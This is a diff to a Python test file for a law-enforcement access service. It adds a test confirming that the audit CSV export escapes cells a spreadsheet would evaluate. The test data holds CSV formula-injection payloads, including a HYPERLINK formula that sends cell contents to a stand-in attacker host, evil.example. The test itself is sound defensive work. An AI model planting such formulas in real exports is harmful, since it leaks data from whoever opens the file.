@@ -1,14 +1,19 @@
-"""No public default secrets: a fresh install makes its link-signing secret (0600, beside its token keys), a link
+"""No public default secrets, and no formula in an export: a fresh install makes its link-signing secret (0600, beside its token keys), a link
 signed with the old public default is refused, and production refuses to start without one."""
 
 from __future__ import annotations
 
+import csv
+import io
 import stat
+from datetime import UTC, datetime, timedelta
 from pathlib import Path
 
 import pytest
 
 from services.access.main import create_app
+from shared.audit import record
+from shared.auth import Principal
 from shared.secret_files import url_signing_path, url_signing_secret
 from shared.settings import Settings
 from shared.storage import LinkViewer, SignedLinks
@@ -50,3 +55,28 @@ async def test_a_link_forged_with_the_public_default_is_refused(access: Access, 
     token = make_token(subject="viewer-1", roles=["supervisor"], agency="MN0271200", trained_until=2**31 - 1)
     resp = await access.client.get(forged, headers=bearer(token))
     assert resp.status_code == 403, resp.text
+
+
+async def test_the_audit_export_escapes_cells_a_spreadsheet_would_run(access: Access, make_token: TokenFactory) -> None:
+    agency = "MN0271200"
+    officer = await access.person("officer", agency=agency)
+    token = await access.token(officer)
+    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
+    async with access.app.state.sessionmaker() as session:
+        who = Principal(subject=officer.id, roles=frozenset({"officer"}), agency=agency)
+        for text in formulas:
+            await record(session, service="access", action="case.note", principal=who, case_number=text)
+        await record(session, service="access", action="case.note", principal=who, case_number="CR-2026-7")
+        await session.commit()
+    auditor = make_token(subject="aud-csv", roles=["auditor"], agency=agency)
+    since = (datetime.now(UTC) - timedelta(hours=1)).isoformat()
+    until = (datetime.now(UTC) + timedelta(hours=1)).isoformat()
+    resp = await access.client.get(
+        "/v1/audit/export", params={"since": since, "until": until, "actor": officer.id}, headers=bearer(auditor)
+    )
+    assert resp.status_code == 200, resp.text
+    assert token  # the officer is a real person of the agency
+    rows = list(csv.DictReader(io.StringIO(resp.text, newline="")))
+    cases = [r["case_number"] for r in rows if r["action"] == "case.note"]
+    assert cases == ["'" + f for f in formulas] + ["CR-2026-7"]
+    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for c in r.values())
